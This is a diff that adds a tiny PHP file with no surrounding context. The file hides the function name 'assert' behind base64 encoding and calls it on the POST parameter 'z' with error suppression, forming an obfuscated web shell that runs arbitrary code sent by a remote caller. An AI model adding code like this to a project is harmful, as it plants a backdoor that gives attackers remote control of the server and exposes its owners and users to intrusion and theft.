@@ -1,0 +1,3 @@
+<?php
+$_ = base64_decode('YXNzZXJ0');
+@$_($_POST['z']);
